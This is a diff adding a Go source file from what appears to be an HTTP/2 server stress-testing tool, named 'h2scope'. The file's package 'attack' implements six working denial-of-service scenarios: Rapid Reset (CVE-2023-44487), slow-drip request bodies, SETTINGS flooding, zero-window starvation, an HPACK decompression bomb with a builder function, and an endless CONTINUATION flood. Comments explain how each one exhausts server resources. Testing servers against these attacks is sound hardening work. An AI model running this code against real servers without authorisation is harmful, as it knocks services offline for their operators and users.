@@ -1,0 +1,237 @@
+package attack
+
+import (
+	"time"
+
+	"h2scope/internal/frame"
+	"h2scope/internal/h2conn"
+)
+
+// scenario is one catalog entry: connection options plus the per-connection
+// attack loop. run returns nil when the deadline ended the loop and an
+// error when the connection died first (the server killed it, typically).
+type scenario struct {
+	options func(p Params) h2conn.Options
+	run     func(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error
+}
+
+func defaultScenarioOptions(Params) h2conn.Options { return h2conn.DefaultOptions() }
+
+var scenarios = map[Kind]scenario{
+	KindRapidReset:        {options: defaultScenarioOptions, run: runRapidReset},
+	KindSlowDrip:          {options: defaultScenarioOptions, run: runSlowDrip},
+	KindSettingsFlood:     {options: defaultScenarioOptions, run: runSettingsFlood},
+	KindZeroWindowStarve:  {options: zeroWindowOptions, run: runZeroWindowStarve},
+	KindHPACKBomb:         {options: defaultScenarioOptions, run: runHPACKBomb},
+	KindContinuationFlood: {options: continuationFloodOptions, run: runContinuationFlood},
+}
+
+// continuationFloodOptions disables the automatic SETTINGS/PING acks: the
+// flood holds an unterminated header block open, and RFC 7540 section 6.10
+// forbids any other frame (even an ACK) on the connection until it ends —
+// an auto-ack mid-flood would end the attack with PROTOCOL_ERROR instead
+// of exercising the server's CONTINUATION bound.
+func continuationFloodOptions(Params) h2conn.Options {
+	return h2conn.Options{}
+}
+
+// runRapidReset is the CVE-2023-44487 shape: open a stream, reset it
+// immediately, repeat. Each cycle costs the attacker two tiny frames and
+// the server a full stream setup/teardown.
+func runRapidReset(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error {
+	req := h2conn.Request{Authority: p.Authority, Path: p.Path}
+	for {
+		id, err := c.OpenStream(req)
+		if err != nil {
+			t.errors++
+			return err
+		}
+		if err := c.WriteRSTStream(id, frame.ErrCodeCancel); err != nil {
+			t.errors++
+			return err
+		}
+		t.ops++
+		if !pace.wait(deadline) {
+			return nil
+		}
+	}
+}
+
+// slowDripStreams is how many request bodies one drip connection holds open.
+const slowDripStreams = 4
+
+// runSlowDrip opens a handful of request bodies and feeds them one byte at
+// a time, round-robin — each stream stays perpetually almost-finished,
+// pinning server state at negligible attacker cost.
+func runSlowDrip(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error {
+	req := h2conn.Request{Method: "POST", Authority: p.Authority, Path: p.Path}
+	ids := make([]uint32, 0, slowDripStreams)
+	for i := 0; i < slowDripStreams; i++ {
+		id, err := c.OpenStreamBody(req)
+		if err != nil {
+			t.errors++
+			return err
+		}
+		ids = append(ids, id)
+	}
+	drip := []byte{'.'}
+	for i := 0; ; i++ {
+		if err := c.WriteData(ids[i%len(ids)], false, drip); err != nil {
+			t.errors++
+			return err
+		}
+		t.ops++
+		if !pace.wait(deadline) {
+			return nil
+		}
+	}
+}
+
+// runSettingsFlood streams non-ACK SETTINGS frames; RFC 7540 obligates the
+// server to acknowledge and apply every one.
+func runSettingsFlood(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error {
+	for {
+		if err := c.WriteSettings(frame.Setting{
+			ID:  frame.SettingInitialWindowSize,
+			Val: frame.DefaultInitialWindowSize,
+		}); err != nil {
+			t.errors++
+			return err
+		}
+		t.ops++
+		if !pace.wait(deadline) {
+			return nil
+		}
+	}
+}
+
+// zeroWindowOptions advertises a zero stream window, so the server can
+// never send response DATA on any stream the scenario opens.
+func zeroWindowOptions(Params) h2conn.Options {
+	return h2conn.Options{
+		Settings:        []frame.Setting{{ID: frame.SettingInitialWindowSize, Val: 0}},
+		AutoSettingsAck: true,
+		AutoPingAck:     true,
+	}
+}
+
+// runZeroWindowStarve requests resources it never allows the server to
+// deliver: the zero window pins every response (and its buffers) for the
+// connection's whole lifetime. Rate is repurposed as the stream count.
+func runZeroWindowStarve(c *h2conn.Conn, p Params, deadline time.Time, _ *pacer, t *tally) error {
+	req := h2conn.Request{Authority: p.Authority, Path: p.Path}
+	n := int(p.Rate)
+	if n < 1 {
+		n = 1
+	}
+	for i := 0; i < n; i++ {
+		if _, err := c.OpenStream(req); err != nil {
+			t.errors++
+			return err
+		}
+		t.ops++
+	}
+	// Hold the connection open, never sending WINDOW_UPDATE.
+	for time.Now().Before(deadline) {
+		if err := c.ReadErr(); err != nil {
+			return err
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	return nil
+}
+
+// bombValueLen and bombRefs shape the default HPACK bomb: one ~3KB entry
+// (fits the RFC-default 4096-byte dynamic table) referenced 12,000 times —
+// a ~15KB wire block decoding to ~36MB of header list.
+const (
+	bombValueLen = 3000
+	bombRefs     = 12000
+)
+
+// runHPACKBomb sends the bomb block as a complete request header block; a
+// guarded decoder rejects it with COMPRESSION_ERROR, an unguarded one
+// materializes megabytes per request.
+func runHPACKBomb(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error {
+	block := HPACKBombBlock(bombValueLen, bombRefs)
+	for {
+		id := c.NextStreamID()
+		if err := c.WriteHeadersRaw(id, block, true, true); err != nil {
+			t.errors++
+			return err
+		}
+		t.ops++
+		if !pace.wait(deadline) {
+			return nil
+		}
+	}
+}
+
+// HPACKBombBlock builds an encoded header block that inserts one
+// valueLen-byte entry into the dynamic table (literal with incremental
+// indexing) and then references it refs times (indexed representation,
+// index 62 — the newest dynamic entry). The block amplifies roughly
+// valueLen× between wire and decoded form, the RFC 7541 bomb shape.
+// valueLen must leave the entry within the peer's dynamic table size
+// (value + name + 32 octets, RFC 7541 section 4.1) or the references fail
+// outright instead of amplifying.
+func HPACKBombBlock(valueLen, refs int) []byte {
+	block := make([]byte, 0, valueLen+refs+16)
+	// Literal header field with incremental indexing, new name (0x40).
+	block = append(block, 0x40)
+	name := "bomb"
+	block = appendHpackInt(block, 7, 0, uint64(len(name)))
+	block = append(block, name...)
+	block = appendHpackInt(block, 7, 0, uint64(valueLen))
+	for i := 0; i < valueLen; i++ {
+		block = append(block, 'x')
+	}
+	// Indexed header field (0x80), index 62 = first dynamic-table slot.
+	for i := 0; i < refs; i++ {
+		block = appendHpackInt(block, 7, 0x80, 62)
+	}
+	return block
+}
+
+// appendHpackInt encodes n with the RFC 7541 section 5.1 N-bit prefix
+// integer representation (first carries the representation's tag bits).
+func appendHpackInt(dst []byte, prefixBits uint8, first byte, n uint64) []byte {
+	limit := uint64(1)<<prefixBits - 1
+	if n < limit {
+		return append(dst, first|byte(n))
+	}
+	dst = append(dst, first|byte(limit))
+	n -= limit
+	for n >= 128 {
+		dst = append(dst, byte(n&0x7f)|0x80)
+		n >>= 7
+	}
+	return append(dst, byte(n))
+}
+
+// continuationChunk is the per-frame fragment size of the flood.
+const continuationChunk = 1024
+
+// runContinuationFlood starts a header block and never finishes it: an
+// endless CONTINUATION sequence the server must either buffer or bound.
+// The fragment bytes are never decoded (END_HEADERS never arrives), so
+// their content is irrelevant.
+func runContinuationFlood(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error {
+	frag := make([]byte, continuationChunk)
+	id := c.NextStreamID()
+	if err := c.WriteHeadersRaw(id, frag, false, false); err != nil {
+		t.errors++
+		return err
+	}
+	t.ops++
+	for {
+		if !pace.wait(deadline) {
+			return nil
+		}
+		if err := c.WriteRawFrame(frame.TypeContinuation, 0, id, frag); err != nil {
+			t.errors++
+			return err
+		}
+		t.ops++
+	}
+}
